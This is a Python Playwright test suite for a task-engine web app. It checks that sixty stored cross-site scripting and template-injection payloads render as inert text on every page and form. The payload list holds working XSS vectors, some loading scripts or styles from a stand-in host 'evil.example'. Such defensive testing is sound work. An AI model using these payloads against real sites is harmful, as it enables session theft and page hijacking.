"""What comes from outside is shown as text, wherever it is stored: nothing of it runs, and the content policy has nothing to forbid."""

from __future__ import annotations

import json
from typing import Any

import psycopg
import pytest

pytest.importorskip("playwright.sync_api")

from engine import presets, tasks
from engine.db import Database
from engine.registry import HandlerRegistry
from engine.requests import TaskRequest
from webapp.filters import visible

PAYLOADS = (
    "<script>boom()</script>",
    "<SCRIPT>boom()</SCRIPT>",
    "<script src=data:text/javascript,boom()></script>",
    "<script src=//evil.example/x.js></script>",
    "<script\x20type='text/javascript'>boom();</script>",
    "<script/x>boom()</script>",
    "<<script>boom();//<</script>",
    "</script><script>boom()</script>",
    "</title><script>boom()</script>",
    "</textarea><script>boom()</script>",
    "</style><script>boom()</script>",
    "</pre></code><script>boom()</script>",
    "--><script>boom()</script>",
    "]]><script>boom()</script>",
    "<img src=x onerror=boom()>",
    "<img src=x onerror='boom()'>",
    '<img src="x" onerror="boom()">',
    "<img/src=x/onerror=boom()>",
    "<img src=x:x onerror=boom()//",
    '"><img src=x onerror=boom()>',
    "'><img src=x onerror=boom()>",
    "<svg onload=boom()>",
    "<svg/onload=boom()>",
    "<svg><script>boom()</script></svg>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:boom()><text x=20 y=20>x</text></a>",
    "<svg><set attributeName=onload to=boom()>",
    "</text></svg><img src=x onerror=boom()>",
    "<math><mtext></mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=boom() src=x>'>",
    "<body onload=boom()>",
    "<iframe src=javascript:boom()></iframe>",
    "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    "<object data=javascript:boom()></object>",
    "<embed src=javascript:boom()>",
    "<a href=javascript:boom()>x</a>",
    "<a href='java&#9;script:boom()'>x</a>",
    "<form action=javascript:boom()><button>x</button></form>",
    "<button formaction=javascript:boom()>x</button>",
    "<details open ontoggle=boom()>",
    "<video><source onerror=boom()></video>",
    "<audio src=x onerror=boom()>",
    "<input onfocus=boom() autofocus>",
    "<select onfocus=boom() autofocus></select>",
    "<textarea onfocus=boom() autofocus></textarea>",
    "<marquee onstart=boom()>x</marquee>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:boom()'>",
    "<base href=//evil.example/>",
    "<div style='background:url(javascript:boom())'>x</div>",
    "<div hx-get=/tasks hx-trigger=load hx-on:load=boom()>x</div>",
    "<div hx-on::after-request='boom()' hx-get='/tasks' hx-trigger='load'>x</div>",
    "<div data-hx-on:load=boom()>x</div>",
    '" onmouseover="boom()" autofocus onfocus="boom()" x="',
    "' onmouseover='boom()' autofocus onfocus='boom()' x='",
    "{{ 7 * 191 }}{{ config }}{% for x in [1] %}boom{% endfor %}",
    "${boom()}#{boom()}<%= boom() %>",
    "javascript:boom()",
    "\u202e<script>boom()</script>\u2066",
    "&lt;script&gt;boom()&lt;/script&gt;&#60;img src=x onerror=boom()&#62;",
)
PLACES = ("/", "/tasks", "/workflows", "/workflows/shop", "/workflows/shop/process_order", "/engines", "/schedules")
VERSION = "/workflows/shop/process_order/1.0.0"


@pytest.fixture
def untrusted(db: Database, conn: psycopg.Connection[Any], registry: HandlerRegistry) -> str:
    """A task with every payload in its context, result, error and notes, and some in each field that holds one text."""
    known = [tasks.register_definition(db, definition) for definition in registry.definitions()]
    everything = {payload: [payload] for payload in PAYLOADS}
    one = "".join(PAYLOADS)[:900]
    task_id = tasks.submit(
        db,
        TaskRequest(
            "process_order", "shop", context={"order_id": 1, **everything}, tags=[each[:60] for each in PAYLOADS[:20]],
            initiator=PAYLOADS[19], reason=one, source_system=PAYLOADS[14], correlation_id=PAYLOADS[53],
        ),
    )  # fmt: skip
    worker = value(conn, "select tasker_register_worker(%s, 'threads', 4, %s, interval '1 hour', true)", PAYLOADS[19], known)
    task_no = value(conn, "select task_no from tasker_task")
    conn.execute("select * from tasker_claim_steps(%s, 1, 9, %s)", [worker, known])
    result = json.dumps([everything])
    conn.execute("select * from tasker_complete_batch(%s, 2, %s, '{0}', '{1}', %s::jsonb, 9)", [worker, [task_no], result])
    error = json.dumps([{"type": PAYLOADS[0], "message": one, "code": PAYLOADS[15], "traceback": "\n".join(PAYLOADS), "retryable": False}])
    conn.execute("select tasker_fail_steps(%s, %s, '{1}', '{1}', %s)", [worker, [task_no], error])
    lines = json.dumps([[1, 0, 30, payload, {payload[:90]: payload}] for payload in PAYLOADS])
    progress = json.dumps([[2, 0, 1, 2, one[:400]]])
    keep = "select tasker_keep_journal(%s, 1, %s, '{1,2}', '{1,1}', %s::jsonb, %s::jsonb)"
    assert value(conn, keep, worker, [task_no, task_no], lines, progress)
    for payload in PAYLOADS:
        tasks.note_task(db, task_id, actor=payload[:60], note=payload)
    presets.keep_preset(db, "shop", "process_order", "<img src=x onerror=boom()>", {"order_id": 1, **everything}, actor="ana")
    conn.execute("update tasker_definition set description = %s", [one])
    conn.execute("update tasker_template set description = %s", [one])
    return task_id


def value(conn: psycopg.Connection[Any], query: str, *parameters: Any) -> Any:
    found = conn.execute(query.encode(), list(parameters)).fetchone()
    assert found
    return found[0]


@pytest.fixture
def guarded(page: Any) -> Any:
    """A page that counts what runs and what the content policy forbids."""
    page.add_init_script("""
        window.ran = []; window.forbidden = [];
        window.boom = () => window.ran.push(document.location.href);
        document.addEventListener('securitypolicyviolation', (event) => window.forbidden.push(event.violatedDirective + ' ' + event.blockedURI));
    """)
    return page


def look(page: Any, path: str) -> str:
    page.goto(path)
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    page.evaluate("document.querySelectorAll('a[href], input, textarea, .node').forEach((each) => each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))")
    assert page.evaluate("window.ran") == [], path
    assert page.evaluate("window.forbidden") == [], path
    return str(page.evaluate("document.body.textContent"))


def test_sixty_payloads_in_every_stored_field_are_text(guarded: Any, untrusted: str) -> None:
    assert len(PAYLOADS) == 60
    seen = [visible(payload) for payload in PAYLOADS]
    step = f"/tasks/{untrusted}/steps"
    task = look(guarded, f"/tasks/{untrusted}")
    assert [payload for payload in seen if payload not in task] == []
    result = look(guarded, f"{step}/validate")
    shown = [json.dumps(payload, ensure_ascii=False) for payload in seen]
    assert [payload for payload in shown if payload not in result] == []
    failed = look(guarded, f"{step}/charge")
    assert [payload for payload in seen if payload not in failed] == []
    log = look(guarded, f"{step}/charge/log")
    assert [payload for payload in seen if payload not in log] == []
    assert PAYLOADS[0] in look(guarded, f"{step}/pack")
    for path in (*PLACES, VERSION, f"/tasks/{untrusted}/timeline"):
        look(guarded, path)


def test_payloads_in_the_launch_form_and_in_addresses_are_text(guarded: Any, untrusted: str) -> None:
    for path in (f"{VERSION}/launch?from_task={untrusted}", f"{VERSION}/launch?preset=%3Cimg%20src=x%20onerror=boom()%3E", f"{VERSION}/launch?mode=json&from_task={untrusted}"):
        look(guarded, path)
    guarded.goto("/tasks")
    for payload in PAYLOADS:
        found = guarded.evaluate(
            """async ([launch, text]) => {
              const asked = [`/tasks?q=${text}&tag=${text}&state=${text}`, `${launch}?order_id=${text}&reason=${text}&preset=${text}`];
              const pages = await Promise.all(asked.map((each) => fetch(each).then((answer) => answer.text())));
              return pages.map((page) => {
                const read = new DOMParser().parseFromString(page, 'text/html');
                const all = [...read.querySelectorAll('*')];
                return all.filter((each) => [...each.attributes].some((one) => /^on|^hx-on|^data-hx-on/.test(one.name) || /^\\s*javascript:/.test(one.value))
                  && !['INPUT', 'TEXTAREA', 'OPTION'].includes(each.tagName)).map((each) => each.outerHTML.slice(0, 200));
              });
            }""",
            [f"{VERSION}/launch", quoted(payload)],
        )  # fmt: skip
        assert found == [[], []], payload


def quoted(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")


def test_what_was_typed_is_still_text_after_a_live_update(guarded: Any, untrusted: str) -> None:
    guarded.goto(f"/tasks/{untrusted}")
    with guarded.expect_response(lambda answer: answer.url.endswith(untrusted)):
        guarded.evaluate("htmx.trigger('#live [hx-get]', 'poll')")
    guarded.wait_for_function("document.querySelector('#task-activity .remark')")
    assert guarded.evaluate("window.ran") == []
    assert guarded.evaluate("window.forbidden") == []
